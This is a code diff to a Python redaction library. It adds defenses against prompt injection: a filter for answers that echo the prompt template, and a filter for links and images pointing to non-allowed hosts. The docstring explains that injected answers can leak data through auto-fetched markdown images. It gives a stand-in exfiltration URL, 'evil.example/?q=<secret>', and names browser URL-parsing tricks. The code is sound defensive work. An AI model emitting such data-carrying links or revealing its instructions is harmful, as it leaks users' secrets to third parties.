@@ -11,7 +11,27 @@ without logging the values themselves::
 
 Kinds, in priority order (:data:`ALL_KINDS`); each kind runs on the output of the ones
 before it, so a value is replaced once, by the first kind that claims it (a card number
-inside an API key counts as one ``secret``, an IBAN's digits never count as a phone):
+inside an API key counts as one ``secret``, an IBAN's digits never count as a phone).
+The first two are output-side defenses against prompt injection (OWASP LLM02/LLM05):
+they do not depend on recognising the attack, only on what an answer must not contain.
+
+``prompt_echo``
+    Runs of at least ``echo_words`` consecutive words (default 8; case and whitespace
+    ignored) that also appear, in that order, in the function's template, outside its
+    ``{{...}}`` variables and ``<message>`` tags: an answer may quote a few words of its
+    instructions, never the instructions themselves. Needs ``template=``; without one
+    this kind finds nothing. A paraphrase or a translation of the template is not caught.
+``link``
+    Markdown images and links (inline ``![alt](url)`` / ``[text](url)``, reference
+    definitions ``[id]: url``, autolinks ``<scheme:...>``) and HTML ``src``/``href``
+    attributes whose URL leaves the page for a host not on ``link_hosts`` (default:
+    none). A rendered image is fetched without a click, so a URL carrying data in its
+    query (``![x](https://evil.example/?q=<secret>)``) leaks it; links need a click but
+    carry the same payload. Only the destination is replaced (``![x][REDACTED:link]``),
+    the visible text is kept. Relative URLs stay (they resolve to the page's own site);
+    any other scheme (``javascript:``, ``data:``, ``mailto:``) is replaced. Backslashes,
+    tabs and controls are read as browsers read them (``https:\\evil``, ``/\\evil``
+    lead to evil). Bare URLs in prose are left alone: nothing fetches them unclicked.
 
 ``secret``
     Vendor-shaped tokens: PEM private-key blocks (a truncated block up to its last base64
@@ -48,7 +68,8 @@ inside an API key counts as one ``secret``, an IBAN's digits never count as a ph
     (order numbers), years, prices, dates (too few digits or mixed separators), dotted
     quads (IP addresses), numbers glued to words, dots or dashes (versions, ids).
 
-Two invariants hold for every rule, and the tests check them:
+Two invariants hold for every rule of the value kinds (:data:`VALUE_KINDS`, all but
+``prompt_echo`` and ``link``), and the tests check them:
 
 * every replaced value contains an ASCII digit or an ``@`` (secrets must contain a digit:
   random tokens almost always do, prose-like strings rarely), and markers contain
@@ -56,7 +77,10 @@ Two invariants hold for every rule, and the tests check them:
   digits never grows;
 * :meth:`Redactor.redact` is idempotent: it repeats its passes until one finds nothing
   (each replacement removes at least one digit or ``@``, so this terminates), because a
-  replacement can expose a value that was glued to the replaced one.
+  replacement can expose a value that was glued to the replaced one. The output-side
+  kinds keep idempotence too: a replaced link destination is the marker, which reads as
+  a relative reference, and a replaced echo run of ``echo_words`` >= 3 words becomes a
+  two-word marker, so each pass shortens the text's word count.
 
 All patterns are linear-time on adversarial input: they are bounded, or their unbounded
 parts are possessive (Python 3.11) and start only at the beginning of a run (a
@@ -68,21 +92,29 @@ e-mails are searched from their '@'. 100 k characters take tens of milliseconds.
 
 from __future__ import annotations
 
-import functools
 import math
 import re
 from collections import Counter
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
+from urllib.parse import urlsplit
 
 SECRET = "secret"  # noqa: S105 (a kind name, not a credential)
 EMAIL = "email"
 IBAN = "iban"
 PAYMENT_CARD = "payment_card"
 PHONE = "phone"
+PROMPT_ECHO = "prompt_echo"
+LINK = "link"
 
-#: Every kind, in priority order: the first kind that claims a value replaces it.
-ALL_KINDS: tuple[str, ...] = (SECRET, EMAIL, IBAN, PAYMENT_CARD, PHONE)
+#: The kinds that replace a value (a key, an address, a number): digits or ``@`` inside.
+VALUE_KINDS: tuple[str, ...] = (SECRET, EMAIL, IBAN, PAYMENT_CARD, PHONE)
+#: Every kind, in priority order: the first kind that claims a value replaces it. The
+#: output-side kinds come first: a leaking URL or an echoed template is one finding, not
+#: the e-mail address inside it.
+ALL_KINDS: tuple[str, ...] = (PROMPT_ECHO, LINK, *VALUE_KINDS)
+#: Default for ``echo_words``: eight words in a row is a quote, not a coincidence.
+DEFAULT_ECHO_WORDS = 8
 
 Span = tuple[int, int]
 _Judge = Callable[[str, re.Match[str]], tuple[list[Span], int]]
@@ -543,6 +575,129 @@ def _judge_phone(text: str, match: re.Match[str]) -> tuple[list[Span], int]:
     return [], match.end()
 
 
+# --- link -----------------------------------------------------------------------------
+
+# Inline destination: found from "](" so that link text with nested brackets needs no
+# parsing; one level of balanced parentheses, as CommonMark allows; an optional title.
+_INLINE_LINK_RE = re.compile(
+    r"""
+    \]\(
+    [\ \t\n]*+
+    (?P<dest><[^<>\n]*+>|(?:[^\s()]++|\([^\s()]*+\))++)
+    (?:[\ \t\n]++(?:"[^"\n]*+"|'[^'\n]*+'|\([^()\n]*+\)))?+
+    [\ \t\n]*+\)
+    """,
+    re.VERBOSE,
+)
+_REFERENCE_DEF_RE = re.compile(
+    r"^[\ \t]{0,3}\[[^\[\]\n]{1,999}+\]:[\ \t]*+(?P<dest><[^<>\n]*+>|\S++)", re.MULTILINE | re.VERBOSE
+)
+_AUTOLINK_RE = re.compile(r"<(?P<dest>[A-Za-z][A-Za-z0-9+.-]{1,31}+:[^\s<>]*+)>")
+_HTML_URL_ATTR_RE = re.compile(
+    r"""\b(?:src|href|srcset|action|formaction|poster|background|data)[\ \t]*+=[\ \t]*+
+    (?:"(?P<dq>[^"]*+)"|'(?P<sq>[^']*+)'|(?P<bare>[^\s"'>]++))""",
+    re.IGNORECASE | re.VERBOSE,
+)
+# Browsers drop tabs, newlines and leading/trailing controls from a URL and read "\" as
+# "/" in http(s) URLs, so "java\tscript:" and "/\evil.example" must be read the same way.
+_URL_IGNORED_RE = re.compile(r"[\x00-\x20\x7f]+")
+
+
+def _url_allowed(raw: str, exact: frozenset[str], suffixes: tuple[str, ...]) -> bool:
+    url = _URL_IGNORED_RE.sub("", raw.strip("<>")).replace("\\", "/")
+    try:
+        parts = urlsplit(url)
+        host = (parts.hostname or "").rstrip(".")
+    except ValueError:  # an invalid port or IPv6 literal: not a URL we can vouch for
+        return False
+    if not parts.scheme and not parts.netloc:
+        return True  # relative: resolves to the page's own site
+    if parts.scheme.lower() not in ("http", "https", "") or not host:
+        return False
+    return host in exact or host.endswith(suffixes)
+
+
+def _link_finder(hosts: Iterable[str]) -> _Finder:
+    """Destinations of links and images whose host is not allowed (``*.x`` allows subdomains of x)."""
+    cleaned = [host.strip().lower().rstrip(".") for host in hosts if host.strip()]
+    exact = frozenset(host for host in cleaned if not host.startswith("*."))
+    suffixes = tuple(host[1:] for host in cleaned if host.startswith("*."))
+
+    def bad(dest: str) -> bool:
+        return not _url_allowed(dest, exact, suffixes)
+
+    def find(text: str) -> list[Span]:
+        spans: list[Span] = []
+        if "](" in text:
+            # The whole "(destination title)", so the title goes too.
+            spans += [(m.start() + 1, m.end()) for m in _INLINE_LINK_RE.finditer(text) if bad(m["dest"])]
+        if "]:" in text:
+            spans += [m.span("dest") for m in _REFERENCE_DEF_RE.finditer(text) if bad(m["dest"])]
+        if "<" in text:
+            spans += [m.span() for m in _AUTOLINK_RE.finditer(text) if bad(m["dest"])]
+        if "=" in text:
+            for m in _HTML_URL_ATTR_RE.finditer(text):
+                group = "dq" if m["dq"] is not None else "sq" if m["sq"] is not None else "bare"
+                if bad(m[group]):
+                    spans.append(m.span(group))
+        return _disjoint(spans)
+
+    return find
+
+
+def _disjoint(spans: list[Span]) -> list[Span]:
+    """Sorted, with spans inside an earlier one dropped (an autolink inside a link's URL)."""
+    kept: list[Span] = []
+    for start, end in sorted(spans):
+        if kept and start < kept[-1][1]:
+            if end > kept[-1][1]:
+                kept[-1] = (kept[-1][0], end)
+            continue
+        kept.append((start, end))
+    return kept
+
+
+# --- prompt echo ----------------------------------------------------------------------
+
+# What a template renders that is not its own text: variables and function calls
+# (SK, handlebars and jinja2 share the braces), jinja2 statements and comments, and the
+# <message role="..."> tags SK turns into chat messages.
+_TEMPLATE_MARKUP_RE = re.compile(r"\{\{.*?\}\}|\{%.*?%\}|\{#.*?#\}|</?message\b[^>]*>", re.DOTALL)
+_WORD_RE = re.compile(r"\w+")
+
+
+def template_literals(template: str) -> list[str]:
+    """The literal text of a prompt template: the pieces between variables and tags."""
+    return [piece for piece in _TEMPLATE_MARKUP_RE.split(template) if piece.strip()]
+
+
+def _echo_finder(template: str, words: int) -> _Finder | None:
+    """Runs of ``words`` or more consecutive template words in the text (None: nothing to protect)."""
+    shingles: set[tuple[str, ...]] = set()
+    for piece in template_literals(template):
+        tokens = [w.casefold() for w in _WORD_RE.findall(piece)]
+        shingles.update(tuple(tokens[i : i + words]) for i in range(len(tokens) - words + 1))
+    if not shingles:
+        return None
+
+    def find(text: str) -> list[Span]:
+        matches = list(_WORD_RE.finditer(text))
+        tokens = [m.group().casefold() for m in matches]
+        spans: list[Span] = []
+        run_end = -1  # index of the last word of the current run
+        for i in range(len(tokens) - words + 1):
+            if tuple(tokens[i : i + words]) in shingles:
+                last = i + words - 1
+                if spans and i <= run_end + 1:  # overlaps or touches the current run
+                    spans[-1] = (spans[-1][0], matches[last].end())
+                else:
+                    spans.append((matches[i].start(), matches[last].end()))
+                run_end = last
+        return spans
+
+    return find
+
+
 # --- the redactor ---------------------------------------------------------------------
 
 _FINDERS: dict[str, tuple[_Finder, ...]] = {
@@ -568,17 +723,37 @@ def _replace(text: str, spans: list[Span], replacement: str) -> str:
 class Redactor:
     """Replaces sensitive values of the chosen kinds with ``[REDACTED:<kind>]`` markers.
 
+    ``link_hosts`` are the hosts whose links and images may stay (``*.example.com``
+    allows its subdomains); ``template`` is the function's prompt template, whose text
+    an answer must not echo for ``echo_words`` words or more in a row. Both only matter
+    when their kind (``link``, ``prompt_echo``) is selected.
+
     Stateless and thread-safe: build one per configuration and share it.
     """
 
-    def __init__(self, kinds: Iterable[str] = ALL_KINDS) -> None:
+    def __init__(
+        self,
+        kinds: Iterable[str] = ALL_KINDS,
+        *,
+        link_hosts: Iterable[str] = (),
+        template: str = "",
+        echo_words: int = DEFAULT_ECHO_WORDS,
+    ) -> None:
         wanted = set(kinds)
         unknown = wanted - set(ALL_KINDS)
         if unknown:
             raise ValueError(f"unknown redaction kinds: {sorted(unknown)}; known: {list(ALL_KINDS)}")
+        if echo_words < 3:
+            # Below three words, a replaced run would not shorten the text (the marker
+            # itself reads as two words) and common phrases would be redacted.
+            raise ValueError("echo_words must be at least 3")
         # Priority order is fixed, whatever order the caller listed the kinds in.
         self.kinds: tuple[str, ...] = tuple(kind for kind in ALL_KINDS if kind in wanted)
-        self._rules = [(kind, finder) for kind in self.kinds for finder in _FINDERS[kind]]
+        finders = dict(_FINDERS)
+        finders[LINK] = (_link_finder(link_hosts),)
+        echo = _echo_finder(template, echo_words)
+        finders[PROMPT_ECHO] = (echo,) if echo is not None else ()
+        self._rules = [(kind, finder) for kind in self.kinds for finder in finders[kind]]
 
     def redact(self, text: str) -> RedactionResult:
         """Replace every value of the configured kinds; count the replacements per kind."""
@@ -605,8 +780,3 @@ def redact(text: str) -> RedactionResult:
     """Redact every kind, with a shared :class:`Redactor`."""
     return _DEFAULT.redact(text)
 
-
-@functools.cache
-def cached_redactor(kinds: tuple[str, ...]) -> Redactor:
-    """One ``Redactor`` per configuration, built on first use (its patterns compile once)."""
-    return Redactor(kinds)
